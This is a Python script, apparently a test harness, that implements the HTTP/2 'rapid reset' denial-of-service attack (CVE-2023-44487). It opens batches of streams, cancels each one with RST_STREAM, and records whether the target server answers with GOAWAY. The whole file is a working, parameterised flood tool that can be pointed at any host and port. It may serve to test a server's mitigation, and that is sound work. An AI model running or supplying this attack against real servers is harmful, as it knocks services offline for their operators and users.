"""An h2 client that opens streams and cancels them (CVE-2023-44487, "rapid reset"),
built on the PyPI `h2` library, so the frames come from a stack nobody here wrote.

usage: h2_reset_flood.py HOST PORT STREAMS [BATCH] [PAUSE_MS] [NAME:VALUE ...]

Each round sends BATCH requests (HEADERS with END_STREAM), waits PAUSE_MS so the
server has accepted and dispatched them (a reset before that is the case h2's
pending-accept bound already catches), then resets each with CANCEL. NAME:VALUE are headers added to each request. It stops after
STREAMS streams, or when the server closes the connection or sends GOAWAY.

Prints one JSON line: streams sent, resets sent, responses seen, whether and why the
server ended the connection (GOAWAY error code name, or "closed"), and seconds taken.
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def main():
    host, port, total = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    batch = int(sys.argv[4]) if len(sys.argv) > 4 else 50
    pause = (int(sys.argv[5]) if len(sys.argv) > 5 else 5) / 1000.0
    extra = [tuple(h.split(":", 1)) for h in sys.argv[6:]]
    extra = [(k.strip().lower(), v.strip()) for k, v in extra]
    sock = socket.create_connection((host, port))
    sock.settimeout(0.001)
    conn = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sent = resets = responses = 0
    ended = None
    start = time.monotonic()

    def pump(wait):
        nonlocal responses, ended
        deadline = time.monotonic() + wait
        while True:
            try:
                data = sock.recv(65536)
            except socket.timeout:
                data = None
            except OSError as e:
                ended = ended or "closed: %s" % e.__class__.__name__
                return
            if data == b"":
                ended = ended or "closed"
                return
            if data:
                try:
                    events = conn.receive_data(data)
                except h2.exceptions.ProtocolError as e:
                    ended = ended or "protocol error: %s" % e
                    return
                for ev in events:
                    if isinstance(ev, h2.events.ResponseReceived):
                        responses += 1
                    elif isinstance(ev, h2.events.ConnectionTerminated):
                        ended = ended or "goaway: %s" % ev.error_code.name
                out = conn.data_to_send()
                if out:
                    try:
                        sock.sendall(out)
                    except OSError:
                        ended = ended or "closed"
                        return
            if time.monotonic() >= deadline:
                return

    while sent < total and ended is None:
        ids = []
        for _ in range(min(batch, total - sent)):
            sid = conn.get_next_available_stream_id()
            try:
                conn.send_headers(
                    sid,
                    [(":method", "GET"), (":path", "/"), (":scheme", "http"),
                     (":authority", "web.demo")] + extra,
                    end_stream=True,
                )
            except h2.exceptions.TooManyStreamsError:
                break
            except h2.exceptions.ProtocolError:
                ended = ended or "closed"
                break
            ids.append(sid)
        sent += len(ids)
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            ended = "closed"
            break
        pump(pause)
        for sid in ids:
            try:
                conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                resets += 1
            except h2.exceptions.StreamClosedError:
                pass
            except h2.exceptions.ProtocolError:
                # The connection is over (a GOAWAY arrived during the pump).
                ended = ended or "closed"
                break
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            ended = "closed"
            break
        pump(0)
    pump(0.5)
    print(json.dumps({
        "streams": sent, "resets": resets, "responses": responses,
        "ended": ended, "secs": round(time.monotonic() - start, 3),
    }))


if __name__ == "__main__":
    main()
